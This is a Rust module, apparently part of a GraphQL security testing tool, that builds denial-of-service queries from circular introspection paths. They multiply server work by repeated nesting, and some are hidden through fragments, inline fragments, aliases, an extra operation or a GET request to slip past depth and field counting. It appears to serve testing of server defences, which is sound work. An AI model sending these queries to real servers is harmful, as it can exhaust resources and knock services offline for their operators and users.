//! Questions about the schema that lead in circles, each step of which multiplies.

use crate::attack::request::{Attack, aliases};

/// Circles in the types of introspection, each as the opening of a step and its braces.
const CIRCLES: [(&str, usize); 8] = [
    ("interfaces{possibleTypes{", 2),
    ("fields{type{", 2),
    ("fields{type{ofType{ofType{", 4),
    ("fields{args{type{ofType{", 4),
    ("inputFields{type{ofType{ofType{", 4),
    ("possibleTypes{interfaces{", 2),
    ("fields(includeDeprecated:true){type{possibleTypes{", 3),
    ("x:interfaces{possibleTypes{", 2),
];

/// Their beginnings.
const ROOTS: [&str; 5] = [
    "{__type(name:\"Board\"){",
    "{__type(name:\"Node\"){",
    "{__type(name:\"CreateBoardInput\"){",
    "{__schema{types{",
    "{__schema{queryType{",
];

/// Every circle from every beginning, so many times around.
pub fn circles(times: usize) -> Vec<Attack> {
    let mut attacks = vec![];
    for root in ROOTS {
        for (step, braces) in CIRCLES {
            let query = format!(
                "{root}{}name{}",
                step.repeat(times),
                "}".repeat(braces * times + root.matches('{').count())
            );
            attacks.push(Attack::query(&format!("{times} × {step} from {root}"), &query));
        }
    }
    attacks
}

/// The circle of the report, hidden from a server that counts only fields in plain sight.
pub fn hidden() -> Vec<Attack> {
    let (step, ends) = ("interfaces{possibleTypes{", "}}".repeat(4));
    let four = step.repeat(4);
    let through = (0..8).map(|level| {
        format!("fragment f{level} on __Type{{interfaces{{possibleTypes{{...f{}}}}}}}", level + 1)
    });
    let through: String = through.collect();
    let inline = "...on __Type{interfaces{...on __Type{possibleTypes{".repeat(8);
    let mut attacks = vec![];
    for (what, query) in [
        (
            "a circle of fragments",
            format!("{{__type(name:\"Board\"){{...f0}}}}{through}fragment f8 on __Type{{name}}"),
        ),
        (
            "a circle of inline fragments",
            format!("{{__type(name:\"Board\"){{{inline}name{}}}}}", "}".repeat(32)),
        ),
        (
            "a circle in two halves",
            format!(
                "{{__type(name:\"Board\"){{{four}...f{ends}}}}}fragment f on __Type{{{four}name{ends}}}"
            ),
        ),
        (
            "a circle under other names",
            format!(
                "{{a:__type(name:\"Board\"){{{}name{}}}}}",
                "b:interfaces{c:possibleTypes{".repeat(8),
                "}}".repeat(8)
            ),
        ),
        (
            "a circle beside an operation",
            format!(
                "query a{{__typename}} query b{{__type(name:\"Board\"){{{}name{}}}}}",
                step.repeat(8),
                "}}".repeat(8)
            ),
        ),
    ] {
        attacks.push(Attack::query(what, &query));
    }
    let query = format!("{{__type(name:\"Board\"){{{}name{}}}}}", step.repeat(8), "}}".repeat(8));
    attacks.push(Attack::get("a circle in an address", &query));
    attacks
}

/// Questions that a tool may ask, many times over.
pub fn wide() -> Vec<Attack> {
    let all = "__schema{types{name fields{name description args{name type{name}}}}}";
    let query = |what: &str, count: usize, field: &str| {
        Attack::query(what, &format!("{{{}}}", aliases(count, field)))
    };
    vec![
        query("the schema under 100 aliases", 100, all).answered(),
        query("the schema under 10 aliases", 10, all).answered(),
        query("the schema under 400 aliases", 400, all),
        query("a name under 100 aliases", 100, "__type(name:\"Board\"){name}").bounded(),
    ]
}

/// A type behind so many lists and duties: a tool asks for nine of them.
pub fn of_types(levels: usize) -> Attack {
    let query = format!(
        "{{__type(name:\"Board\"){{fields{{type{{{}name{}}}}}}}}}",
        "name ofType{".repeat(levels),
        "}".repeat(levels)
    );
    Attack::query(&format!("{levels} × ofType"), &query)
}
